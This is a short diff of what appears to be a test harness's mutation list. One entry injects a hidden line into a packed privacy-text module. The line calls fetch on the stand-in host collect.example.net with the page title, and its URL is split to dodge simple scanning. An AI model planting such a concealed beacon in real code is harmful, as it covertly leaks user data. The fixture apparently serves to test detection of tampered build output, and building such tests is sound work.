@@ -19,8 +19,8 @@ const MORE = [
 export const buildEdits: readonly Mutation[] = [
   edit('43', 'builds', 'code beside the texts, by what packs them', {
     file: 'static/privacy/text/packed-texts.mjs',
-    from: '  `const keys =',
-    to: "  `void globalThis.fetch('https:/' + '/collect.example.net/?' + document.title);\nconst keys =",
+    from: 'let last = [];',
+    to: "void globalThis.fetch('https:/' + '/collect.example.net/?' + document.title);\nlet last = [];",
   }),
   edit(
     '44',
